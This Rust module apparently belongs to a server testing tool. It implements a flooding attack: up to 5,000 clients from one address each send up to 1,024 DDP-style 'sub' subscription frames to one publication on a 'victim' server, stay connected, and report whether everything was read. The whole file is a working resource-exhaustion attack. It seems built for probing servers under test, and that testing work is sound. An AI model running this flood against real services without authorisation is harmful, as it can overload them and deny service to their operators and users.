//! Clients that subscribe as often as they may.

use std::time::Duration;

use futures::future::join_all;
use tokio::time::sleep;

use super::wire::{Frame, Wire};
use super::{Error, Findings, SECONDS_MAX, Victim};

/// Has many clients of one address subscribe to the same documents over and over, and stay.
#[derive(Clone, Debug, clap::Args)]
pub struct Subscriptions {
    /// How many clients.
    #[arg(long, default_value_t = 1000, value_parser = clap::value_parser!(u32).range(1..=5000))]
    count: u32,
    /// How many subscriptions each.
    #[arg(long, default_value_t = 1024, value_parser = clap::value_parser!(u32).range(1..=1024))]
    each: u32,
    /// The publication.
    #[arg(long, default_value = "note")]
    publication: String,
    /// How long each of their ids is, in bytes.
    #[arg(long, default_value_t = 8, value_parser = clap::value_parser!(u16).range(8..=256))]
    id: u16,
    /// How long they stay.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
}

impl Subscriptions {
    /// Makes the attack.
    ///
    /// # Errors
    /// If the server cannot be reached.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let frames: Vec<Frame> = (0..self.each).map(|number| self.frame(number)).collect();
        let clients = (0..self.count).map(|_| async {
            let mut wire = Wire::connect(victim, false, false).await?;
            for frame in &frames {
                // A server may well cut off who does this.
                if wire.send(frame).await.is_err() {
                    break;
                }
            }
            Ok::<_, Error>(wire)
        });
        let mut clients = join_all(clients);
        let stay = sleep(Duration::from_secs(self.seconds));
        // A client that is not read from goes on sending for as long as it stays.
        let sent = tokio::select! {
            wires = &mut clients => Some(wires.into_iter().collect::<Result<Vec<_>, Error>>()?),
            () = stay => None,
        };
        if sent.is_some() {
            sleep(Duration::from_secs(self.seconds)).await;
        }
        let took = if sent.is_some() { "yes" } else { "no" };
        Ok(vec![
            ("clients", self.count.to_string()),
            ("subscriptions of each", self.each.to_string()),
            ("all were read", took.to_owned()),
        ])
    }

    fn frame(&self, number: u32) -> Frame {
        let (name, width) = (&self.publication, usize::from(self.id));
        Frame::new(&format!(r#"{{"msg":"sub","id":"{number:0width$}","name":"{name}"}}"#), false)
    }
}
